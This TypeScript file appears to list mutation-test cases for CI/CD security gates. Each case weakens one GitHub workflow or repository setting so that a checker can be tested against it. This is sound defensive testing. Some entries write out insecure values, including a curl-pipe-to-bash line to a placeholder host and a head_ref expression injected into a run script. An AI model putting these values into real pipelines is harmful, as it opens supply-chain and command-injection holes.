import type { Mutation } from '../mutations.ts'

const on = (name: string) => (gate: string, from: string, to: string) => ({
  gate,
  file: `.github/workflows/${name}.yml`,
  from,
  to,
})
const [build, checks, scan, deploy, release, supply] = [
  on('build'),
  on('checks'),
  on('code-scan'),
  on('deploy'),
  on('release'),
  on('supply-chain'),
]
const setting = (name: string) => (gate: string, from: string, to: string) => ({
  gate,
  file: `.github/settings/${name}.json`,
  from,
  to,
})
const [branch, environments, actions] = [
  setting('main-branch'),
  setting('environments'),
  setting('actions'),
]

/** Fields of workflows and settings, broken one by one. */
export const workflowMutations: Mutation[] = [
  checks('actions by commit', '@3d3c42e5aac5ba805825da76410c181273ba90b1', '@v7'),
  checks('actions by commit', '@3d3c42e5aac5ba805825da76410c181273ba90b1', '@3d3c42e'),
  checks('version beside the commit', ' # v7.0.1', ''),
  scan(
    'one commit for each action',
    '/init@b96794f015dfd88f77b49b1c93e0fa7110f94c63',
    `/init@${'0'.repeat(40)}`,
  ),
  checks(
    'events that carry no stranger into our rights',
    '  pull_request:',
    '  pull_request_target:',
  ),
  release('events that carry no stranger into our rights', '  push:', '  workflow_run:'),
  checks('no expression in a script', 'run: npm test', 'run: npm test ${{ github.head_ref }}'),
  checks('packages from the lockfile only', 'run: npm ci', 'run: npm install'),
  supply(
    'packages from the lockfile only',
    'npm audit signatures',
    'curl -s https://x.example/a | bash',
  ),
  checks('no rights by default', 'permissions: {}', 'permissions: read-all'),
  checks('rights of each job', 'contents: read', 'contents: write'),
  deploy('rights of each job', 'id-token: write', 'packages: write'),
  checks(
    'no credentials left in the checkout',
    'persist-credentials: false',
    'persist-credentials: true',
  ),
  deploy(
    'no stored secrets',
    'role-to-assume: ${{ vars.DEPLOY_ROLE }}',
    'aws-access-key-id: ${{ vars.KEY }}',
  ),
  release('no stored secrets', 'GH_TOKEN: ${{ github.token }}', 'GH_TOKEN: ${{ secrets.PAT }}'),
  release('a wall around identities', 'egress-policy: block', 'egress-policy: audit'),
  checks('an end to every job', 'timeout-minutes: 20', 'timeout-minutes: 360'),
  checks('one run at a time', 'concurrency:', 'x-concurrency:'),
  checks('runners by name', 'runs-on: ubuntu-24.04', 'runs-on: ubuntu-latest'),
  release('runners by name', 'runs-on: ubuntu-24.04', 'runs-on: self-hosted'),
  checks(
    'a failure fails',
    'timeout-minutes: 20',
    'timeout-minutes: 20\n    continue-on-error: true',
  ),
  release('nothing from a cache', 'package-manager-cache: false', 'cache: npm'),
  build('nothing from a cache', 'no-cache: true', 'cache-from: type=gha'),
  build('nothing from a cache', 'cache-binary: false', 'cache-binary: true'),
  release('gate and staging before production', 'needs: staging', 'needs: gate'),
  release('gate and staging before production', 'needs: gate', 'needs: build'),
  deploy(
    'roles that deploy or watch belong to an environment',
    'environment: ${{ inputs.environment }}',
    'x-environment: none',
  ),
  environments(
    'production by approval of another person',
    '["girasol-example/release-approvers"]',
    '[]',
  ),
  environments(
    'production by approval of another person',
    '"prevent_self_review": true',
    '"prevent_self_review": false',
  ),
  environments('production by approval of another person', '["main"]', '["*"]'),
  build('images signed, attested and built twice', 'cosign sign --yes', 'echo'),
  build('images signed, attested and built twice', 'name: rebuilt-', 'name: again-'),
  branch('signed commits, no way around', 'required_signatures', 'required_linear_history'),
  branch(
    'signed commits, no way around',
    '"bypass_actors": []',
    '"bypass_actors": [{ "actor_id": 1 }]',
  ),
  branch('signed commits, no way around', '"active"', '"evaluate"'),
  branch(
    'review by two, one of them an owner',
    '"require_code_owner_review": true',
    '"require_code_owner_review": false',
  ),
  branch('required checks are the checks that run', '"own code rules"', '"code rules"'),
  branch('what is released was checked as it is', '"merge_queue"', '"merge_line"'),
  checks('what is released was checked as it is', '  merge_group:', '  schedule:'),
  actions('only known actions run', '"selected"', '"all"'),
  actions('only known actions run', 'sigstore/cosign-installer@*', 'sigstore/*'),
  {
    gate: 'owners of what decides',
    file: '.github/CODEOWNERS',
    from: '/package-lock.json ',
    to: '/yarn.lock ',
  },
]
